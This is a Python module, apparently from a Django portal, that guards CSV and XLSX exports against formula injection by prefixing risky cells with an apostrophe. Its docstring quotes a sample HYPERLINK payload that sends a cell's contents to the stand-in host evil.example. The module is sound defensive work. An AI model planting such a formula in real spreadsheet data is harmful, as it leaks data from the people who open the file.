"""Every CSV/XLSX the portal writes goes through here, so that no cell reaches a spreadsheet as a
formula (CSV injection: a delegate named `=HYPERLINK("http://evil.example/?"&B2,"x")`).

A text cell starting with one of the characters spreadsheets read as a formula (OWASP's list) gets a
leading apostrophe, the mark spreadsheets themselves use for "this is text". import-export's own
`IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT` only strips one leading "=" (and turns every cell into a
string), so the formats below replace that step with this one.
"""

import csv

from import_export.formats import base_formats

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def neutralise(value):
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return TEXT_MARK + value
    return value


def restore_neutralised(value):
    """The inverse, for a file the portal exported and staff import again."""
    if isinstance(value, str) and value.startswith(TEXT_MARK) and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


class _NeutralisedFormulae:
    def _escape_formulae(self, dataset):
        for _ in range(dataset.height):
            dataset.append([neutralise(cell) for cell in dataset.lpop()])


class CSV(_NeutralisedFormulae, base_formats.CSV):
    pass


class XLSX(_NeutralisedFormulae, base_formats.XLSX):
    pass


EXPORT_FORMATS = [CSV, XLSX]


class SafeCSVWriter:
    """`csv.writer` for hand-written reports, with every cell neutralised."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])
